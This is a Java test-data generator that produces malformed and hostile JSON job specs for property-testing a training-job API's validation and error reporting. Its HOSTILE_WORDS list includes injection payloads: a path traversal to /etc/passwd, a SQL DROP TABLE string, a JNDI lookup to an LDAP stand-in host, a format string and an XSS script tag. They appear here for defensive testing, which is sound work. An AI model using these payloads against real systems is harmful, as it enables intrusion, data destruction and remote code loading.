package dev.gantry.api;

import static dev.gantry.api.JsonTrees.asList;
import static dev.gantry.api.JsonTrees.asObject;
import static dev.gantry.api.JsonTrees.copy;
import static dev.gantry.api.JsonTrees.get;
import static dev.gantry.api.JsonTrees.parse;
import static dev.gantry.api.JsonTrees.set;
import static dev.gantry.api.JsonTrees.show;
import static dev.gantry.api.JsonTrees.write;

import dev.gantry.api.JsonTrees.Duplicated;
import dev.gantry.api.JsonTrees.Raw;
import dev.gantry.training.TrainingCatalog;
import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.function.DoublePredicate;
import java.util.function.Predicate;
import java.util.regex.Pattern;

/**
 * Hostile job-spec bodies for {@link HostileInputPropertyTest}: valid specs taken apart as JSON
 * trees and broken in one place each, together with the field the API must name. The contract
 * the mutations break (JSON types, ranges, names, what may be null) is written out here on its
 * own, after the README, rather than read from the validator, so a validator that lets something
 * through is caught instead of agreed with.
 */
final class HostileSpecs {

    enum Expect {
        /** 400 invalid-request with an error on exactly {@code field}. */
        FIELD,
        /** 400 invalid-request naming {@code field}, a parent or child of it, or the body (parse errors stop early); any field when null. */
        NEAR,
        /** 413 request-too-large. */
        TOO_LARGE,
        /** Some 4xx problem: the request is refused, nothing more is promised. */
        REFUSED
    }

    record Case(
            String category,
            String description,
            byte[] body,
            String contentType,
            boolean chunked,
            Expect expect,
            String field) {}

    static final List<String> CATEGORIES = List.of(
            "wrong-type",
            "numbers",
            "nan-infinity",
            "malformed-numbers",
            "unknown-names",
            "unknown-fields",
            "empty-strings",
            "long-strings",
            "unicode-and-control",
            "nulls",
            "arrays-for-objects",
            "big-arrays",
            "deep-nesting",
            "duplicate-keys",
            "truncated",
            "invalid-utf8",
            "oversized",
            "content-types");

    static final String FULL = """
            {"name": "hostile-base", "dataset": "grid25", "priority": 5,
             "model": {"architecture": "mlp", "latentDim": 2, "hiddenUnits": 64, "hiddenLayers": 2},
             "loss": {"adversarial": {"type": "wasserstein"},
                      "terms": [{"type": "weight-clipping", "weight": 1.0, "params": {"clip": 0.01}}]},
             "optimizer": {"generator": {"type": "adam", "learningRate": 0.0001, "beta1": 0.5, "beta2": 0.9},
                           "discriminator": {"type": "adam", "learningRate": 0.0002, "beta1": 0.0, "beta2": 0.99}},
             "training": {"steps": 1000, "batchSize": 64, "discriminatorSteps": 5, "seed": 7},
             "checkpoints": {"everySteps": 500, "keepLast": 2},
             "evaluation": {"everySteps": 500, "samples": 1000},
             "limits": {"maxRuntimeSeconds": 3600}}
            """;
    static final String MINIMAL = "{\"dataset\": \"ring8\"}";
    static final String MEDIUM = """
            {"dataset": "swissroll", "loss": {"adversarial": {"type": "hinge"}, "terms": []},
             "training": {"steps": 10, "seed": 1}, "limits": {}}
            """;
    static final List<String> BASES = List.of(FULL, MINIMAL, MEDIUM);

    private static final Pattern JOB_NAME = Pattern.compile("[A-Za-z0-9][A-Za-z0-9._-]{0,99}");

    enum Kind {
        OBJECT,
        MAP,
        ARRAY,
        NAME,
        ENUM,
        INT,
        DOUBLE
    }

    record Field(Kind kind, Set<String> allowed, long min, long max, DoublePredicate valid, boolean nullable) {}

    /** The spec's fields by path, array indices written {@code []}. */
    static final Map<String, Field> SCHEMA = new HashMap<>();

    static {
        object("", false);
        SCHEMA.put("name", new Field(Kind.NAME, Set.of(), 0, 0, null, true));
        enumOf("dataset", Set.copyOf(TrainingCatalog.builtInDatasets()), false);
        integer("priority", -100, 100);
        object("model", true);
        enumOf("model.architecture", Set.copyOf(TrainingCatalog.architectures()), true);
        integer("model.latentDim", 1, 1024);
        integer("model.hiddenUnits", 1, 8192);
        integer("model.hiddenLayers", 1, 16);
        object("loss", true);
        object("loss.adversarial", true);
        enumOf("loss.adversarial.type", Set.copyOf(TrainingCatalog.adversarialLosses()), true);
        decimal("loss.adversarial.weight", w -> Double.isFinite(w) && w >= 0, true);
        SCHEMA.put("loss.terms", new Field(Kind.ARRAY, Set.of(), 0, 0, null, true));
        object("loss.terms[]", false);
        enumOf("loss.terms[].type", Set.copyOf(TrainingCatalog.terms()), false);
        // The bases' only term, weight-clipping, is a constraint: its weight must be exactly 1.
        decimal("loss.terms[].weight", w -> w == 1.0, true);
        SCHEMA.put("loss.terms[].params", new Field(Kind.MAP, Set.of("clip"), 0, 0, null, true));
        decimal("loss.terms[].params.clip", c -> Double.isFinite(c) && c > 0, false);
        object("optimizer", true);
        for (String side : List.of("optimizer.generator", "optimizer.discriminator")) {
            object(side, true);
            enumOf(side + ".type", TrainingCatalog.OPTIMIZERS, true);
            decimal(side + ".learningRate", lr -> lr > 0 && lr <= 1, true);
            decimal(side + ".beta1", b -> b >= 0 && b < 1, true);
            decimal(side + ".beta2", b -> b >= 0 && b < 1, true);
        }
        object("training", true);
        integer("training.steps", 1, 10_000_000);
        integer("training.batchSize", 1, 65_536);
        integer("training.discriminatorSteps", 1, 100);
        integer("training.seed", 0, Long.MAX_VALUE);
        object("checkpoints", true);
        integer("checkpoints.everySteps", 1, 10_000_000);
        integer("checkpoints.keepLast", 1, 1000);
        object("evaluation", true);
        integer("evaluation.everySteps", 1, 10_000_000);
        integer("evaluation.samples", 100, 100_000);
        object("limits", true);
        integer("limits.maxRuntimeSeconds", 1, 7 * 24 * 3600);
    }

    private static void object(String path, boolean nullable) {
        SCHEMA.put(path, new Field(Kind.OBJECT, Set.of(), 0, 0, null, nullable));
    }

    private static void enumOf(String path, Set<String> allowed, boolean nullable) {
        SCHEMA.put(path, new Field(Kind.ENUM, allowed, 0, 0, null, nullable));
    }

    private static void integer(String path, long min, long max) {
        SCHEMA.put(path, new Field(Kind.INT, Set.of(), min, max, null, true));
    }

    private static void decimal(String path, DoublePredicate valid, boolean nullable) {
        SCHEMA.put(path, new Field(Kind.DOUBLE, Set.of(), 0, 0, valid, nullable));
    }

    private final SplittableRandom random;
    private final long maxRequestBytes;

    HostileSpecs(long seed, long maxRequestBytes) {
        this.random = new SplittableRandom(seed);
        this.maxRequestBytes = maxRequestBytes;
    }

    Case next(String category) {
        return switch (category) {
            case "wrong-type" -> wrongType();
            case "numbers" -> numbers();
            case "nan-infinity" -> nanInfinity();
            case "malformed-numbers" -> malformedNumbers();
            case "unknown-names" -> unknownNames();
            case "unknown-fields" -> unknownFields();
            case "empty-strings" -> stringAt("empty-strings", "");
            case "long-strings" -> stringAt("long-strings", longString());
            case "unicode-and-control" -> stringAt("unicode-and-control", oneOf(UNICODE) + oneOf(UNICODE));
            case "nulls" -> nulls();
            case "arrays-for-objects" -> arraysForObjects();
            case "big-arrays" -> bigArrays();
            case "deep-nesting" -> deepNesting();
            case "duplicate-keys" -> duplicateKeys();
            case "truncated" -> truncated();
            case "invalid-utf8" -> invalidUtf8();
            case "oversized" -> oversized();
            case "content-types" -> contentTypes();
            default -> throw new IllegalArgumentException(category);
        };
    }

    // ---- mutations ------------------------------------------------------------------------------

    private static final List<Object> OTHER_VALUES =
            List.of("x", "7", 7, 0.5, true, false, List.of(), List.of(1, "a"), Map.of(), Map.of("k", 1));

    private Case wrongType() {
        Target target = target(k -> true);
        Object tree = target.tree();
        List<Object> path = target.path();
        Kind kind = field(path).kind();
        Object value;
        do {
            value = oneOf(OTHER_VALUES);
        } while (sameJsonType(kind, value));
        return spec(
                "wrong-type",
                "at " + show(path) + " ← " + shortJson(value),
                set(tree, path, value),
                Expect.FIELD,
                show(path));
    }

    private static boolean sameJsonType(Kind kind, Object value) {
        return switch (kind) {
            case NAME, ENUM -> value instanceof String;
            case INT -> value instanceof Integer;
            case DOUBLE -> value instanceof Number;
            case OBJECT, MAP -> value instanceof Map;
            case ARRAY -> value instanceof List;
        };
    }

    private static final List<String> NUMBER_TOKENS = List.of(
            "1e400",
            "-1e400",
            "1e-400",
            "-1e-400",
            "-1",
            "0",
            "-0",
            "-0.0",
            "0.0",
            "0.5",
            "1.0",
            "1",
            "1e2",
            "1E+2",
            "100",
            "101",
            "1001",
            "65537",
            "604801",
            "10000001",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "-9223372036854775809",
            "18446744073709551616",
            "1e308",
            "4.9e-324",
            "0.0000000001",
            "1.0000000000000002",
            "0.9999999999999999",
            "1e999999999",
            "1" + "0".repeat(1000));

    private Case numbers() {
        Object tree = parse(random.nextBoolean() ? FULL : MEDIUM);
        List<List<Object>> numeric = paths(tree, k -> k == Kind.INT || k == Kind.DOUBLE);
        while (true) {
            List<Object> path = pick(numeric);
            Field field = field(path);
            String token = oneOf(NUMBER_TOKENS);
            if (isValidNumber(field, token)) {
                continue;
            }
            return spec(
                    "numbers",
                    "at " + show(path) + " ← " + abbreviate(token),
                    set(tree, path, new Raw(token)),
                    token.length() > 1000 ? Expect.NEAR : Expect.FIELD,
                    show(path));
        }
    }

    /** The contract's own reading of a number token, as the README states it. */
    static boolean isValidNumber(Field field, String token) {
        if (token.length() > 1000) {
            return false;
        }
        if (field.kind() == Kind.INT) {
            if (!token.matches("-?\\d+")) {
                return false; // fractions and exponents are not whole numbers, even 1.0 or 1e2
            }
            BigInteger value = new BigInteger(token);
            return value.compareTo(BigInteger.valueOf(field.min())) >= 0
                    && value.compareTo(BigInteger.valueOf(field.max())) <= 0;
        }
        return field.valid().test(Double.parseDouble(token));
    }

    private static final List<String> NON_FINITE_STRINGS =
            List.of("NaN", "Infinity", "-Infinity", "+Infinity", "nan", "inf", "-inf", "1e400", "", " ", "7", "0.5");
    private static final List<String> NON_FINITE_TOKENS =
            List.of("NaN", "Infinity", "-Infinity", "+Infinity", "-NaN", "nan", "inf", "INF", "Infinity1");

    private Case nanInfinity() {
        Target target = target(k -> k == Kind.INT || k == Kind.DOUBLE);
        Object tree = target.tree();
        List<Object> path = target.path();
        if (random.nextBoolean()) {
            String text = oneOf(NON_FINITE_STRINGS);
            return spec(
                    "nan-infinity",
                    "at " + show(path) + " ← \"" + text + "\"",
                    set(tree, path, text),
                    Expect.FIELD,
                    show(path));
        }
        String token = oneOf(NON_FINITE_TOKENS);
        return spec(
                "nan-infinity",
                "at " + show(path) + " ← bare " + token,
                set(tree, path, new Raw(token)),
                Expect.NEAR,
                show(path));
    }

    private static final List<String> MALFORMED_NUMBERS = List.of(
            ".5", "5.", "01", "+1", "--1", "1e", "1e+", "0x10", "1_000", "1,5", "1.2.3", "- 1", "1e5e5", "0b1", "١٢");

    private Case malformedNumbers() {
        Target target = target(k -> k == Kind.INT || k == Kind.DOUBLE);
        Object tree = target.tree();
        List<Object> path = target.path();
        String token = oneOf(MALFORMED_NUMBERS);
        return spec(
                "malformed-numbers",
                "at " + show(path) + " ← bare " + token,
                set(tree, path, new Raw(token)),
                Expect.NEAR,
                show(path));
    }

    private static final List<String> HOSTILE_WORDS = List.of(
            "../../etc/passwd",
            "'; DROP TABLE jobs; --",
            "${jndi:ldap://example.invalid/a}",
            "%s%n%x",
            "<script>alert(1)</script>",
            "null",
            "undefined",
            "true",
            "0",
            "-",
            ".",
            "_",
            "a b",
            "a/b",
            "..",
            "\\",
            "*",
            "grid25\u0000",
            "gr\u0456d25",
            "ＧＲＩＤ２５");

    private Case unknownNames() {
        Target target = target(k -> k == Kind.ENUM || k == Kind.NAME);
        Object tree = target.tree();
        List<Object> path = target.path();
        Field field = field(path);
        while (true) {
            String value = switch (random.nextInt(5)) {
                case 0 -> oneOf(HOSTILE_WORDS);
                case 1 -> randomAscii(1 + random.nextInt(30));
                case 2 -> randomUnicode(1 + random.nextInt(10));
                case 3 -> field.kind() == Kind.ENUM ? variant(oneOf(List.copyOf(field.allowed()))) : "x".repeat(101);
                default -> oneOf(List.of("-lead", ".hidden", "_x", "job name", "job/name", "jöb", "名前", "a:b"));
            };
            if (!isValidString(field, value)) {
                return spec(
                        "unknown-names",
                        "at " + show(path) + " ← " + shortJson(value),
                        set(tree, path, value),
                        Expect.FIELD,
                        show(path));
            }
        }
    }

    /** A near miss of a valid name: a case change, a stray space, a look-alike. */
    private String variant(String valid) {
        return switch (random.nextInt(6)) {
            case 0 -> valid.toUpperCase();
            case 1 -> valid + " ";
            case 2 -> " " + valid;
            case 3 -> valid.replace('-', '_');
            case 4 -> valid + "\u200b";
            default -> valid.substring(0, valid.length() - 1);
        };
    }

    static boolean isValidString(Field field, String value) {
        return field.kind() == Kind.NAME
                ? JOB_NAME.matcher(value).matches()
                : field.allowed().contains(value);
    }

    private static final List<String> UNKNOWN_KEYS = List.of(
            "trainign",
            "Dataset",
            "DATASET",
            "",
            " ",
            "__proto__",
            "constructor",
            "$ref",
            "@type",
            "a.b",
            "a[0]",
            "\u0000",
            "日本語",
            "steps",
            "type",
            "weight",
            "clip ",
            "name\u0000",
            "\ud83d\ude00");

    private Case unknownFields() {
        Target target = target(k -> k == Kind.OBJECT || k == Kind.MAP);
        Object tree = target.tree();
        List<Object> path = target.path();
        Map<String, Object> object = asObject(get(tree, path));
        String key;
        do {
            key = switch (random.nextInt(3)) {
                case 0 -> oneOf(UNKNOWN_KEYS);
                case 1 -> randomAscii(1 + random.nextInt(20));
                default -> random.nextInt(4) == 0 ? "k".repeat(5000) : randomUnicode(1 + random.nextInt(8));
            };
        } while (object.containsKey(key) || knownChild(path, key));
        object.put(key, oneOf(OTHER_VALUES));
        // A key with a lone surrogate is not even valid text: the parser stops at the object holding it.
        boolean text = key.codePoints().noneMatch(c -> Character.isSurrogate((char) c) && c <= 0xFFFF);
        return spec(
                "unknown-fields",
                "at " + show(path) + " + key " + shortJson(key),
                tree,
                text ? Expect.FIELD : Expect.NEAR,
                join(show(path), key));
    }

    private boolean knownChild(List<Object> path, String key) {
        Field parent = field(path);
        if (parent.kind() == Kind.MAP) {
            return parent.allowed().contains(key);
        }
        String schemaPath = schemaKey(path);
        return SCHEMA.containsKey(schemaPath.isEmpty() ? key : schemaPath + "." + key);
    }

    private Case stringAt(String category, String value) {
        Target target = target(k -> k == Kind.ENUM || k == Kind.NAME);
        Object tree = target.tree();
        List<Object> path = target.path();
        if (isValidString(field(path), value)) {
            value = value + "\u0000";
        }
        return spec(
                category,
                "at " + show(path) + " ← " + shortJson(value),
                set(tree, path, value),
                Expect.FIELD,
                show(path));
    }

    private String longString() {
        int length = oneOf(List.of(101, 1000, 65_536, 300_000, 1_100_000));
        return switch (random.nextInt(3)) {
            case 0 -> "grid25".repeat(length / 6 + 1).substring(0, length);
            case 1 -> randomAscii(length);
            default -> randomUnicode(Math.min(length, 100_000));
        };
    }

    private static final List<String> UNICODE = List.of(
            "\u0000",
            "\u0001",
            "\u0007",
            "\b",
            "\t",
            "\n",
            "\r",
            "\u001b[31m",
            "\u007f",
            "\u0085",
            "\u00a0",
            "\u200b",
            "\u200e",
            "\u202e",
            "\u2028",
            "\ufeff",
            "\ufffd",
            "\ufffe",
            "\uffff",
            "\ud800",
            "\udc00",
            "\udbff\udfff",
            "\ud83d\ude00",
            "e\u0301",
            "é",
            "ß",
            "İ",
            "Ω",
            "\u0456",
            "ｇ",
            "𝕘",
            "٣",
            "😀",
            "👩‍👩‍👧",
            "grid25",
            "ring8");

    private Case nulls() {
        Object tree = base();
        List<List<Object>> candidates = new ArrayList<>(paths(tree, k -> true));
        candidates.removeIf(path -> field(path).nullable());
        List<Object> path = pick(candidates);
        return spec("nulls", "at " + show(path) + " ← null", set(tree, path, null), Expect.FIELD, show(path));
    }

    private Case arraysForObjects() {
        Target target = target(k -> k == Kind.OBJECT || k == Kind.MAP);
        Object tree = target.tree();
        List<Object> path = target.path();
        Object object = get(tree, path);
        Object array = switch (random.nextInt(3)) {
            case 0 -> new ArrayList<>();
            case 1 -> new ArrayList<>(List.of(copy(object)));
            default -> new ArrayList<>(List.of(new ArrayList<>()));
        };
        return spec(
                "arrays-for-objects",
                "at " + show(path) + " ← " + shortJson(array),
                set(tree, path, array),
                Expect.FIELD,
                show(path));
    }

    private Case bigArrays() {
        Object tree = parse(FULL);
        Map<String, Object> term =
                asObject(asList(get(tree, List.of("loss", "terms"))).get(0));
        if (random.nextInt(4) == 0) {
            // Thousands of unknown parameters: every one is an error, and the answer must stay sane.
            Map<String, Object> params = asObject(term.get("params"));
            int count = oneOf(List.of(17, 1000, 5000));
            for (int i = 0; i < count; i++) {
                params.put("p" + i, 1);
            }
            return spec("big-arrays", count + " unknown params", tree, Expect.FIELD, "loss.terms[0].params.p0");
        }
        int count = oneOf(List.of(2, 17, 1000, 5000));
        List<Object> terms = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            terms.add(copy(term));
        }
        return spec(
                "big-arrays",
                count + " copies of one term",
                set(tree, List.of("loss", "terms"), terms),
                Expect.FIELD,
                "loss.terms");
    }

    private Case deepNesting() {
        int depth = oneOf(List.of(501, 1000, 10_000, 100_000));
        String arrays = "[".repeat(depth) + "]".repeat(depth);
        return switch (random.nextInt(4)) {
            case 0 -> raw("deep-nesting", depth + " nested arrays as the body", arrays);
            case 1 ->
                raw(
                        "deep-nesting",
                        depth + " nested objects as the body",
                        "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
            case 2 -> {
                Target target = target(k -> true);
                Object tree = target.tree();
                List<Object> path = target.path();
                yield spec(
                        "deep-nesting",
                        depth + " nested arrays at " + show(path),
                        set(tree, path, new Raw(arrays)),
                        Expect.NEAR,
                        show(path));
            }
            default -> {
                Object tree = base();
                asObject(tree).put("deep", new Raw("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
                yield spec("deep-nesting", depth + " nested objects under an unknown field", tree, Expect.NEAR, "deep");
            }
        };
    }

    private Case duplicateKeys() {
        Object tree = base();
        List<List<Object>> objects = paths(tree, k -> k == Kind.OBJECT || k == Kind.MAP);
        objects.removeIf(path -> asObject(get(tree, path)).isEmpty());
        List<Object> path = pick(objects);
        Map<String, Object> object = asObject(get(tree, path));
        String key = oneOf(List.copyOf(object.keySet()));
        Object second = random.nextBoolean() ? copy(object.get(key)) : oneOf(OTHER_VALUES);
        return spec(
                "duplicate-keys",
                "at " + show(path) + " key " + key + " twice",
                set(tree, path, new Duplicated(object, key, second)),
                Expect.NEAR,
                join(show(path), key));
    }

    private Case truncated() {
        String text = write(parse(oneOf(BASES)));
        int cut = random.nextInt(text.length());
        return new Case(
                "truncated",
                "cut at " + cut + " of " + text.length(),
                text.substring(0, cut).getBytes(StandardCharsets.UTF_8),
                "application/json",
                false,
                Expect.NEAR,
                null);
    }

    private static final List<byte[]> INVALID_UTF8 = List.of(
            new byte[] {(byte) 0xC3, 0x28},
            new byte[] {(byte) 0xFF},
            new byte[] {(byte) 0xFE, (byte) 0xFF},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80},
            new byte[] {(byte) 0xE2, (byte) 0x82},
            new byte[] {(byte) 0x80});

    private Case invalidUtf8() {
        Map<String, Object> tree = asObject(base());
        tree.put("dataset", "grid\u0001MARK\u000125");
        String text = write(tree);
        int mark = text.indexOf("\\u0001MARK\\u0001");
        byte[] bad = oneOf(INVALID_UTF8);
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        boolean atStart = random.nextInt(4) == 0;
        if (atStart) {
            body.writeBytes(bad);
            body.writeBytes(text.replace("\\u0001MARK\\u0001", "").getBytes(StandardCharsets.UTF_8));
        } else {
            body.writeBytes(text.substring(0, mark).getBytes(StandardCharsets.UTF_8));
            body.writeBytes(bad);
            body.writeBytes(text.substring(mark + "\\u0001MARK\\u0001".length()).getBytes(StandardCharsets.UTF_8));
        }
        // Valid without the bad bytes only when they precede the body; inside, "grid…25" is no dataset either way.
        return new Case(
                "invalid-utf8",
                hex(bad) + (atStart ? " before the body" : " inside dataset"),
                body.toByteArray(),
                "application/json",
                false,
                Expect.NEAR,
                atStart ? null : "dataset");
    }

    private Case oversized() {
        String text = write(parse(oneOf(BASES)));
        long size = maxRequestBytes + 1 + random.nextInt((int) Math.min(800_000, maxRequestBytes));
        boolean chunked = random.nextBoolean();
        byte[] body;
        String description;
        if (random.nextBoolean()) {
            body = (text + " ".repeat((int) (size - text.length()))).getBytes(StandardCharsets.UTF_8);
            description = "valid spec padded with spaces to " + size + " bytes";
        } else {
            Map<String, Object> tree = asObject(parse(text));
            tree.put("name", "n".repeat((int) size));
            body = write(tree).getBytes(StandardCharsets.UTF_8);
            description = "a name of " + size + " characters";
        }
        return new Case(
                "oversized",
                description + (chunked ? ", chunked" : ""),
                body,
                "application/json",
                chunked,
                Expect.TOO_LARGE,
                null);
    }

    // A charset on application/json is not one of these: JSON is UTF-8 whatever the label says
    // (RFC 8259 defines no charset parameter), so a UTF-8 body labelled utf-16 is still a valid spec.
    private static final List<String> NOT_JSON = List.of(
            "text/plain",
            "text/json",
            "text/html; charset=utf-8",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=xyz",
            "multipart/form-data",
            "application/octet-stream",
            "image/png",
            "application/yaml",
            "application/problem+json",
            "application/vnd.gantry+json",
            "application/json; charset=nonsense",
            "application/json; charset=\"",
            "application/jsonx",
            "json",
            "*/*",
            "application/*",
            "*/json",
            "../../",
            ";",
            "application/json/extra",
            "a".repeat(5000),
            "application/x-java-serialized-object",
            "");

    private Case contentTypes() {
        String contentType = oneOf(NOT_JSON);
        return new Case(
                "content-types",
                "Content-Type " + shortJson(contentType) + " with a valid spec",
                write(parse(oneOf(BASES))).getBytes(StandardCharsets.UTF_8),
                contentType.isEmpty() ? null : contentType,
                false,
                Expect.REFUSED,
                null);
    }

    // ---- targets -------------------------------------------------------------------------------

    /** A base tree and one of its paths of the given kinds (the full spec has them all). */
    private record Target(Object tree, List<Object> path) {}

    private Target target(Predicate<Kind> kinds) {
        Object tree = base();
        List<List<Object>> candidates = paths(tree, kinds);
        if (candidates.isEmpty()) {
            tree = parse(FULL);
            candidates = paths(tree, kinds);
        }
        return new Target(tree, pick(candidates));
    }

    private Object base() {
        // Mostly the full spec: it has every field, so every path can be broken.
        return parse(random.nextInt(4) == 0 ? oneOf(BASES) : FULL);
    }

    private Case spec(String category, String description, Object tree, Expect expect, String field) {
        byte[] body = write(tree).getBytes(StandardCharsets.UTF_8);
        if (body.length > maxRequestBytes) {
            return new Case(category, description, body, "application/json", false, Expect.TOO_LARGE, null);
        }
        return new Case(category, description, body, "application/json", false, expect, field);
    }

    private Case raw(String category, String description, String body) {
        return spec(category, description, new Raw(body), Expect.NEAR, null);
    }

    /** Every path in the tree whose schema kind passes the filter; the root is the empty path. */
    private static List<List<Object>> paths(Object tree, Predicate<Kind> kinds) {
        List<List<Object>> out = JsonTrees.paths(tree);
        out.removeIf(path -> !kinds.test(field(path).kind()));
        return out;
    }

    static Field field(List<Object> path) {
        Field field = SCHEMA.get(schemaKey(path));
        if (field == null) {
            throw new IllegalStateException("no schema for " + schemaKey(path));
        }
        return field;
    }

    private static String schemaKey(List<Object> path) {
        StringBuilder key = new StringBuilder();
        for (Object segment : path) {
            if (segment instanceof Integer) {
                key.append("[]");
            } else {
                key.append(key.isEmpty() ? "" : ".").append(segment);
            }
        }
        return key.toString();
    }

    private static String join(String parent, String key) {
        return parent.isEmpty() ? key : parent + "." + key;
    }

    // ---- randomness and display -----------------------------------------------------------------

    private <T> T oneOf(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private List<Object> pick(List<List<Object>> paths) {
        return paths.get(random.nextInt(paths.size()));
    }

    private String randomAscii(int length) {
        StringBuilder out = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            out.append((char) (0x20 + random.nextInt(0x5f)));
        }
        return out.toString();
    }

    /** Code points from control characters to emoji, lone surrogates included. */
    private String randomUnicode(int length) {
        StringBuilder out = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            switch (random.nextInt(5)) {
                case 0 -> out.append((char) random.nextInt(0x20));
                case 1 -> out.append((char) (0x80 + random.nextInt(0x780)));
                case 2 -> out.append((char) (0xD800 + random.nextInt(0x800)));
                case 3 -> out.appendCodePoint(0x1F300 + random.nextInt(0x300));
                default -> out.append((char) (0x3000 + random.nextInt(0x6000)));
            }
        }
        return out.toString();
    }

    static String shortJson(Object value) {
        return abbreviate(write(value));
    }

    static String abbreviate(String text) {
        return RawHttp.abbreviate(text);
    }

    private static String hex(byte[] bytes) {
        StringBuilder out = new StringBuilder();
        for (byte b : bytes) {
            out.append(String.format("%02X ", b));
        }
        return out.toString().trim();
    }
}
